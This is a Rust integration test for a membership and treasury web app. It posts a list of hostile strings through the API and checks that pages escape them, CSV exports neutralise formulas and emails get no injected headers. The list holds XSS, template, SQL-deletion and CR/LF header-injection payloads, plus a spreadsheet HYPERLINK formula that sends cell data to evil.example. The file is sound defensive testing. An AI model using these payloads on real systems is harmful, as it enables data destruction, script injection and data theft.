//! Injection and escaping: a table of hostile strings (HTML and script, template syntax, SQL, spreadsheet
//! formulas, CR/LF header breaks) goes into every text field the signed-in roles write through the API, and
//! then every page and answer that shows them, every CSV export and every email is read back:
//! - pages show them escaped (no raw `<script`, no attribute break), and the text itself is there;
//! - the API gives back exactly what was stored (SQL payloads are plain text) and no other table changes;
//! - CSV cells cannot run as formulas;
//! - nothing reaches an email header as an extra header line (checked on the raw messages a real SMTP server
//!   received).

use std::collections::BTreeMap;

use diesel::prelude::*;
use serde_json::{json, Value};
use steward::accounts::Role;
use steward::db::schema;

use crate::backend_tests;
use crate::support::smtp::SmtpServer;
use crate::support::TestApp;

/// The hostile strings. Each is tried in every field below.
pub const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "{{7*7}}",
    "{% raw %}${7*7}",
    "' OR '1'='1",
    "1; DROP TABLE members--",
    "%' --",
    "\u{2019} OR \u{2018}1\u{2019}=\u{2019}1",
    "Robert\"); DELETE FROM users;--",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "x\r\nBcc: evil@example.org",
    "x\nX-Injected: yes",
];

/// Whether a payload carries characters that HTML must escape.
fn needs_escaping(p: &str) -> bool {
    p.contains(['<', '>', '"', '\''])
}

/// What a page shows for a payload once its entities are read: whitespace collapsed, as HTML renders it.
fn squash(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn decode_entities(html: &str) -> String {
    html.replace("&#60;", "<")
        .replace("&#62;", ">")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#34;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&#x2F;", "/")
        .replace("&#47;", "/")
        .replace("&#x60;", "`")
        .replace("&#96;", "`")
        .replace("&amp;", "&")
        .replace("&#38;", "&")
}

/// What was tried and how it went.
#[derive(Default)]
struct Tally {
    /// field name -> (accepted, refused with 4xx)
    fields: BTreeMap<&'static str, (usize, usize)>,
    /// (field, payload index, page or API path where it must show)
    shown: Vec<(&'static str, usize, String)>,
}

impl Tally {
    fn note(&mut self, field: &'static str, status: u16, body: &Value) -> bool {
        assert!(status < 500, "{field}: a payload caused {status}: {body}");
        let entry = self.fields.entry(field).or_default();
        if (200..300).contains(&status) {
            entry.0 += 1;
            true
        } else {
            assert!(matches!(status, 400 | 409 | 422), "{field}: unexpected {status}: {body}");
            entry.1 += 1;
            false
        }
    }

    fn tried(&self) -> usize {
        self.fields.values().map(|(a, r)| a + r).sum()
    }
}

struct Api<'a> {
    app: &'a TestApp,
    token: String,
}

impl Api<'_> {
    async fn send(&self, method: reqwest::Method, path: &str, body: Value) -> (u16, Value) {
        let res = self
            .app
            .client
            .request(method, self.app.url(path))
            .bearer_auth(&self.token)
            .json(&body)
            .send()
            .await
            .expect("API call");
        let status = res.status().as_u16();
        (status, res.json().await.unwrap_or(Value::Null))
    }

    async fn post(&self, path: &str, body: Value) -> (u16, Value) {
        self.send(reqwest::Method::POST, path, body).await
    }

    async fn get(&self, path: &str) -> (u16, Value) {
        let res = self.app.client.get(self.app.url(path)).bearer_auth(&self.token).send().await.expect("GET");
        let status = res.status().as_u16();
        (status, res.json().await.unwrap_or(Value::Null))
    }
}

/// Row counts of tables no field here writes to: a SQL payload that ran would change one.
async fn untouched_counts(app: &TestApp) -> Vec<i64> {
    app.with_conn(|conn| {
        use schema::*;
        vec![
            fiscal_years::table.count().get_result::<i64>(conn).unwrap(),
            invoices::table.count().get_result::<i64>(conn).unwrap(),
            payments::table.count().get_result::<i64>(conn).unwrap(),
            budgets::table.count().get_result::<i64>(conn).unwrap(),
            allocations::table.count().get_result::<i64>(conn).unwrap(),
            disbursements::table.count().get_result::<i64>(conn).unwrap(),
            exchange_rates::table.count().get_result::<i64>(conn).unwrap(),
            reports::table.count().get_result::<i64>(conn).unwrap(),
        ]
    })
    .await
}

/// Every cell of a CSV file; none may start like a formula unless it is a plain number.
fn assert_csv_neutral(name: &str, body: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(body.as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("{name} is not CSV: {e}"));
        for cell in record.iter() {
            let number = cell.parse::<f64>().is_ok() && !cell.starts_with(['+', '@', '=', '\t', '\r']);
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || number,
                "{name} has a cell a spreadsheet runs as a formula: {cell:?}"
            );
            cells.push(cell.to_string());
        }
    }
    cells
}

/// The header block of a raw message (up to the first empty line).
fn head_of(raw: &str) -> String {
    let raw = raw.replace("\r\n", "\n");
    raw.split("\n\n").next().unwrap_or_default().to_string()
}

/// The header lines of a raw message (continuations folded in), by name.
fn header_names(raw: &str) -> Vec<String> {
    head_of(raw)
        .lines()
        .filter(|l| !l.starts_with([' ', '\t']) && !l.is_empty())
        .map(|l| l.split(':').next().unwrap_or_default().trim().to_ascii_lowercase())
        .collect()
}

/// Header names the CR/LF payloads try to add.
const INJECTED_HEADERS: &[&str] = &["bcc", "x-injected"];

backend_tests! {
    async fn hostile_text_is_escaped_neutralised_and_kept_literal_everywhere(backend) {
        let started = std::time::Instant::now();
        let app = TestApp::spawn(backend).await;
        app.seed_demo().await;
        let staff = app.create_user("staff@payloads.test", &[Role::Admin, Role::Treasurer, Role::Council], None).await;
        let staff_api = Api { app: &app, token: app.api_token_for(staff.id).await };
        let (rep_id, rep_member): (i64, Option<i64>) = app
            .with_conn(|conn| {
                schema::users::table
                    .filter(schema::users::email.eq("rep@demo.steward.invalid"))
                    .select((schema::users::id, schema::users::member_id))
                    .first(conn)
                    .unwrap()
            })
            .await;
        let rep_api = Api { app: &app, token: app.api_token_for(rep_id).await };
        let before = untouched_counts(&app).await;
        let priority_id: i64 = app
            .with_conn(|conn| schema::funding_priorities::table.select(schema::funding_priorities::id).first(conn).unwrap())
            .await;
        let year_start: chrono::NaiveDate = app
            .with_conn(|conn| {
                schema::fiscal_years::table
                    .filter(schema::fiscal_years::status.eq("open"))
                    .select(schema::fiscal_years::starts_on)
                    .first(conn)
                    .unwrap()
            })
            .await;
        let today = chrono::Utc::now().date_naive();
        let entry_date = if today > year_start { today } else { year_start };

        let mut t = Tally::default();
        let mut literal_mismatches = Vec::new();
        let mut members_created = 0;
        let mut metric_ids = Vec::new();
        let mut survey_ids = Vec::new();
        let mut initiative_ids = Vec::new();
        // Stored as given; a one-line field keeps a line break as a space (which is how it is shown anyway).
        let check_literal = |field: &str, i: usize, got: &Value, out: &mut Vec<String>| {
            let want = PAYLOADS[i].trim();
            let same = match got.as_str() {
                Some(g) if want.contains(['\r', '\n']) => squash(g) == squash(want),
                Some(g) => g.trim() == want,
                None => false,
            };
            if !same {
                out.push(format!("{field} #{i}: stored {got} for {want:?}"));
            }
        };

        for (i, p) in PAYLOADS.iter().enumerate() {
            let p = *p;
            // Members: name and notes (treasurer).
            let (s, b) = staff_api.post("/api/v1/members", json!({ "name": p, "slug": format!("pn-{i}") })).await;
            if t.note("member name", s, &b) {
                members_created += 1;
                check_literal("member name", i, &b["name"], &mut literal_mismatches);
                t.shown.push(("member name", i, "/members?per_page=100".into()));
            }
            let (s, b) = staff_api
                .post("/api/v1/members", json!({ "name": format!("Notes {i}"), "slug": format!("pt-{i}"), "notes": p }))
                .await;
            if t.note("member notes", s, &b) {
                members_created += 1;
                check_literal("member notes", i, &b["notes"], &mut literal_mismatches);
                t.shown.push(("member notes", i, format!("/members/pt-{i}")));
            }
            let (s, b) = staff_api
                .post(
                    "/api/v1/members",
                    json!({ "name": format!("Site {i}"), "slug": format!("pw-{i}"), "website": p, "country": "NL" }),
                )
                .await;
            if t.note("member website", s, &b) {
                members_created += 1;
            }
            // Tiers: name and benefits (treasurer).
            let (s, b) = staff_api
                .post("/api/v1/tiers", json!({ "name": p, "annual_dues": "100.00", "currency": "USD", "benefits": "" }))
                .await;
            if t.note("tier name", s, &b) {
                check_literal("tier name", i, &b["name"], &mut literal_mismatches);
                t.shown.push(("tier name", i, "/tiers".into()));
            }
            let (s, b) = staff_api
                .post(
                    "/api/v1/tiers",
                    json!({ "name": format!("Benefits {i}"), "annual_dues": "100.00", "currency": "USD", "benefits": p }),
                )
                .await;
            if t.note("tier benefits", s, &b) {
                check_literal("tier benefits", i, &b["benefits"], &mut literal_mismatches);
                t.shown.push(("tier benefits", i, "/tiers".into()));
            }
            // Priorities: title, summary, key outcomes.
            let (s, b) = staff_api
                .post(
                    "/api/v1/priorities",
                    json!({ "slug": format!("pp-{i}"), "title": p, "summary": p, "outcomes": [p] }),
                )
                .await;
            for field in ["priority title", "priority summary", "key outcome"] {
                if t.note(field, s, &b) {
                    t.shown.push((field, i, "/priorities".into()));
                }
            }
            if (200..300).contains(&s) {
                check_literal("priority title", i, &b["title"], &mut literal_mismatches);
            }
            // Initiatives: title, summary, lead.
            let (s, b) = staff_api
                .post(
                    "/api/v1/initiatives",
                    json!({ "priority_id": priority_id, "title": p, "summary": p, "lead": p, "subprojects": "" }),
                )
                .await;
            for field in ["initiative title", "initiative summary", "initiative lead"] {
                if t.note(field, s, &b) {
                    t.shown.push((field, i, format!("/initiatives/{}", b["id"])));
                }
            }
            if (200..300).contains(&s) {
                initiative_ids.push(b["id"].as_i64().unwrap_or_default());
                check_literal("initiative title", i, &b["title"], &mut literal_mismatches);
            }
            // Metrics: name, description, scope notes; an observation's note.
            let (s, b) = staff_api
                .post(
                    "/api/v1/metrics",
                    json!({
                        "slug": format!("pm-{i}"), "name": p, "description": p, "scope_notes": p, "unit": "count",
                        "direction": "higher", "baseline": "1", "baseline_on": "2026-01-01", "target": "10",
                        "target_on": "2027-12-31", "source": "manual", "expected_interval_days": 30
                    }),
                )
                .await;
            for field in ["metric name", "metric description", "metric scope notes"] {
                if t.note(field, s, &b) {
                    t.shown.push((field, i, format!("/metrics/{}", b["id"])));
                }
            }
            let metric_id = b["id"].as_i64();
            if let Some(id) = metric_id.filter(|_| (200..300).contains(&s)) {
                metric_ids.push(id);
                check_literal("metric name", i, &b["name"], &mut literal_mismatches);
                let (s, b) = staff_api
                    .post(
                        &format!("/api/v1/metrics/{id}/observations"),
                        json!({ "observed_on": "2026-02-01", "value": "3", "note": p }),
                    )
                    .await;
                if t.note("observation note", s, &b) {
                    t.shown.push(("observation note", i, format!("/metrics/{id}")));
                }
            }
            // Ledger: an adjustment's memo.
            let (s, b) = staff_api
                .post(
                    "/api/v1/ledger/adjustments",
                    json!({ "entry_date": entry_date.to_string(), "direction": "in", "amount": "1.00", "currency": "",
                            "priority_id": null, "memo": p }),
                )
                .await;
            if t.note("ledger memo", s, &b) {
                check_literal("ledger memo", i, &b["memo"], &mut literal_mismatches);
                t.shown.push(("ledger memo", i, "/ledger".into()));
            }
            // Feedback from a representative: subject and body; the council's answer.
            let (s, b) = rep_api.post("/api/v1/feedback", json!({ "subject": p, "body": p })).await;
            let sent = t.note("feedback subject", s, &b);
            t.note("feedback body", s, &b);
            if sent {
                check_literal("feedback subject", i, &b["subject"], &mut literal_mismatches);
                t.shown.push(("feedback subject", i, "/feedback/triage".into()));
                let (s, b2) = staff_api
                    .post(
                        &format!("/api/v1/feedback/{}/answer", b["id"]),
                        json!({ "status": "answered", "answer": p, "quotable": false }),
                    )
                    .await;
                if t.note("feedback answer", s, &b2) {
                    t.shown.push(("feedback answer", i, "/feedback/triage".into()));
                }
            }
            // Accounts: an invitation's display name (it goes into the To header) and its address.
            let (s, b) = staff_api
                .post(
                    "/api/v1/users",
                    json!({ "email": format!("invitee{i}@payloads.test"), "display_name": p, "roles": ["council"] }),
                )
                .await;
            if t.note("display name", s, &b) {
                check_literal("display name", i, &b["display_name"], &mut literal_mismatches);
                t.shown.push(("display name", i, "/admin/users".into()));
            }
            let (s, b) = staff_api
                .post("/api/v1/users", json!({ "email": p, "display_name": format!("Address {i}"), "roles": ["council"] }))
                .await;
            t.note("invitation email", s, &b);
            // Surveys: title (in the invitation's subject), introduction, a question's prompt and options.
            let (s, b) = staff_api
                .post(
                    "/api/v1/surveys",
                    json!({
                        "title": p, "introduction": p, "cycle": format!("P{i}"),
                        "opens_at": (chrono::Utc::now() - chrono::Duration::hours(1)).format("%Y-%m-%dT%H:%M").to_string(),
                        "closes_at": (chrono::Utc::now() + chrono::Duration::days(9)).format("%Y-%m-%dT%H:%M").to_string(),
                        "audience": "selected", "targets": [rep_member], "anonymous": false, "min_group_size": 1
                    }),
                )
                .await;
            for field in ["survey title", "survey introduction"] {
                if t.note(field, s, &b) {
                    t.shown.push((field, i, format!("/surveys/{}", b["id"])));
                }
            }
            if let Some(id) = b["id"].as_i64().filter(|_| (200..300).contains(&s)) {
                survey_ids.push((i, id));
                check_literal("survey title", i, &b["title"], &mut literal_mismatches);
                let (s, b) = staff_api
                    .post(
                        &format!("/api/v1/surveys/{id}/questions"),
                        json!({ "kind": "single", "prompt": p, "required": false, "options": [p, "plain"] }),
                    )
                    .await;
                for field in ["question prompt", "question option"] {
                    if t.note(field, s, &b) {
                        t.shown.push((field, i, format!("/surveys/{id}")));
                    }
                }
                let (s, b) = staff_api
                    .post(
                        &format!("/api/v1/surveys/{id}/questions"),
                        json!({ "kind": "long_text", "prompt": "Anything else?", "required": false }),
                    )
                    .await;
                assert!((200..300).contains(&s), "{b}");
            }
        }
        assert!(literal_mismatches.is_empty(), "stored differently than given:\n{}", literal_mismatches.join("\n"));
        assert_eq!(untouched_counts(&app).await, before, "a payload changed a table it was never written to");
        let members_now: i64 =
            app.with_conn(|conn| schema::members::table.count().get_result(conn).unwrap()).await;
        let demo_members: i64 = app
            .with_conn(|conn| {
                schema::members::table
                    .filter(schema::members::slug.not_like("p_-%"))
                    .count()
                    .get_result(conn)
                    .unwrap()
            })
            .await;
        assert_eq!(members_now - demo_members, members_created, "members holds exactly the rows created");

        // Open each survey (invitations go to the representatives of one organization, the title in their subject) and answer the
        // first one's questions with a payload each: the text answer and the chosen option.
        let mut answered = 0;
        for (i, id) in &survey_ids {
            let (s, b) = staff_api.post(&format!("/api/v1/surveys/{id}/open"), json!({})).await;
            assert!((200..300).contains(&s), "open survey {id}: {s} {b}");
            let (_, view) = staff_api.get(&format!("/api/v1/surveys/{id}")).await;
            let questions = view["questions"].as_array().cloned().unwrap_or_default();
            let mails = app.outbox().await;
            let link = mails
                .iter()
                .rev()
                .filter(|(to, _, _)| to == "rep@demo.steward.invalid")
                .find_map(|(_, _, body)| {
                    body.split_whitespace().find(|w| w.starts_with(&app.url("/s/"))).map(str::to_string)
                })
                .expect("a survey link in the representative's invitation");
            let token = link.rsplit('/').next().unwrap_or_default().to_string();
            let mut answers = serde_json::Map::new();
            for q in &questions {
                // A choice is answered by its option's position: the first option is the payload.
                let value = if q["kind"] == "long_text" { PAYLOADS[*i] } else { "0" };
                answers.insert(q["id"].to_string(), json!([value]));
            }
            let (s, b) = rep_api
                .post("/api/v1/survey-answers", json!({ "token": token, "answers": answers, "submit": true }))
                .await;
            if !(200..300).contains(&s) {
                eprintln!("survey answer #{i} refused: {s} {b}");
            }
            if t.note("survey text answer", s, &b) {
                answered += 1;
                t.shown.push(("survey text answer", *i, format!("/surveys/{id}/results")));
            }
        }
        assert!(answered > 0, "no survey answer was accepted");

        // Every page that shows these fields, read by someone allowed to see it.
        let browser = app.browser_signed_in(&staff).await;
        let mut pages: Vec<String> = vec![
            "/".into(),
            "/members?per_page=100".into(),
            "/tiers".into(),
            "/priorities".into(),
            "/initiatives".into(),
            "/metrics".into(),
            "/ledger".into(),
            "/feedback/triage".into(),
            "/admin/users".into(),
            "/surveys".into(),
            "/treasury".into(),
            "/audit".into(),
        ];
        pages.extend((0..PAYLOADS.len()).map(|i| format!("/members/pt-{i}")));
        pages.extend(initiative_ids.iter().map(|id| format!("/initiatives/{id}")));
        pages.extend(metric_ids.iter().map(|id| format!("/metrics/{id}")));
        for (_, id) in &survey_ids {
            pages.push(format!("/surveys/{id}"));
            pages.push(format!("/surveys/{id}/results"));
        }
        for (_, _, path) in &t.shown {
            if !pages.contains(path) {
                pages.push(path.clone());
            }
        }
        let mut bodies: BTreeMap<String, String> = BTreeMap::new();
        for path in &pages {
            let (status, html) = browser.get(path).await;
            assert!(status < 500, "{path}: {status}");
            if status != 200 {
                continue;
            }
            for p in PAYLOADS.iter().filter(|p| needs_escaping(p)) {
                assert!(!html.contains(p), "{path} shows {p:?} unescaped");
            }
            let lower = html.to_ascii_lowercase();
            for bad in ["<script>alert", "<img src=x", "<svg onload", "href=\"javascript:", "src=\"javascript:"] {
                assert!(!lower.contains(bad), "{path} contains {bad}");
            }
            bodies.insert(path.clone(), squash(&decode_entities(&html)));
        }
        // A rep's own view of their feedback.
        let rep_browser = app.browser_signed_in(&crate::support::TestUser {
            id: rep_id,
            email: "rep@demo.steward.invalid".into(),
            password: steward::demo::DEMO_PASSWORD.into(),
        })
        .await;
        let (_, html) = rep_browser.get("/feedback").await;
        for p in PAYLOADS.iter().filter(|p| needs_escaping(p)) {
            assert!(!html.contains(p), "/feedback shows {p:?} unescaped");
        }
        // Each accepted value is shown somewhere as text (template syntax as typed, not evaluated); every field
        // has its values on the pages read.
        let mut missing = Vec::new();
        let mut found_per_field: BTreeMap<&str, usize> = BTreeMap::new();
        for (field, i, path) in &t.shown {
            let want = squash(PAYLOADS[*i]);
            let on_page = bodies.get(path).is_some_and(|b| b.contains(&want));
            if on_page || bodies.values().any(|b| b.contains(&want)) {
                *found_per_field.entry(field).or_default() += 1;
            } else {
                missing.push(format!("{field} #{i} ({want:?}) not on {path} nor any page read"));
            }
        }
        if !missing.is_empty() {
            eprintln!("not found on the pages read:\n  {}", missing.join("\n  "));
        }
        for (field, _, _) in &t.shown {
            assert!(found_per_field.contains_key(field), "no value of {field} is on the pages read:\n{}", missing.join("\n"));
        }
        let payloads_shown: usize = found_per_field.values().sum();

        // CSV exports: no cell runs as a formula, and the formula payloads are there, neutralised.
        let mut csvs = vec![
            "/members/export.csv".to_string(),
            "/ledger/export.csv".to_string(),
            "/invoices/export.csv".to_string(),
        ];
        csvs.extend(metric_ids.iter().map(|id| format!("/metrics/{id}/observations.csv")));
        for (_, id) in &survey_ids {
            csvs.push(format!("/surveys/{id}/results.csv"));
            csvs.push(format!("/surveys/{id}/responses.csv"));
        }
        let mut all_cells = Vec::new();
        for path in &csvs {
            let res = browser.client.get(browser.url(path)).send().await.unwrap();
            assert_eq!(res.status(), 200, "{path}");
            let body = res.text().await.unwrap();
            all_cells.extend(assert_csv_neutral(path, &body));
        }
        for p in PAYLOADS.iter().filter(|p| p.trim_start().starts_with(['=', '+', '-', '@'])) {
            let p = p.trim();
            assert!(
                all_cells.iter().any(|c| c == &format!("'{p}")),
                "{p:?} is in no export as the neutralised '{p}"
            );
        }

        // Email: deliver everything queued to a real SMTP server and read the raw headers.
        let smtp = SmtpServer::start();
        let report = app.deliver_mail_to(&smtp).await;
        let messages = smtp.wait_for(report.sent as usize, std::time::Duration::from_secs(20)).await;
        assert!(messages.len() >= PAYLOADS.len(), "invitations and survey emails were sent: {}", messages.len());
        for m in &messages {
            for name in header_names(&m.raw) {
                assert!(!INJECTED_HEADERS.contains(&name.as_str()), "an injected header line {name:?} in:\n{}", m.raw);
                assert!(
                    !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'),
                    "a header line that is no header {name:?} in:\n{}",
                    m.raw
                );
            }
            let head = format!("\n{}", head_of(&m.raw).to_ascii_lowercase());
            assert!(!head.contains("\nbcc:"), "{}", m.raw);
            assert!(!head.contains("\nx-injected:"), "{}", m.raw);
        }

        let tried = t.tried();
        let fields = t.fields.len();
        let refused: usize = t.fields.values().map(|(_, r)| r).sum();
        eprintln!(
            "payloads ({backend:?}): {} payloads x {fields} fields = {tried} writes ({refused} refused by validation), \
             {payloads_shown} values found shown escaped, {} pages, {} CSV exports, {} emails checked in {:.1?}",
            PAYLOADS.len(),
            bodies.len() + 1,
            csvs.len(),
            messages.len(),
            started.elapsed()
        );
        for (field, (accepted, refused)) in &t.fields {
            eprintln!("  {field:<22} accepted {accepted:>2}, refused {refused:>2}");
        }
    }
}
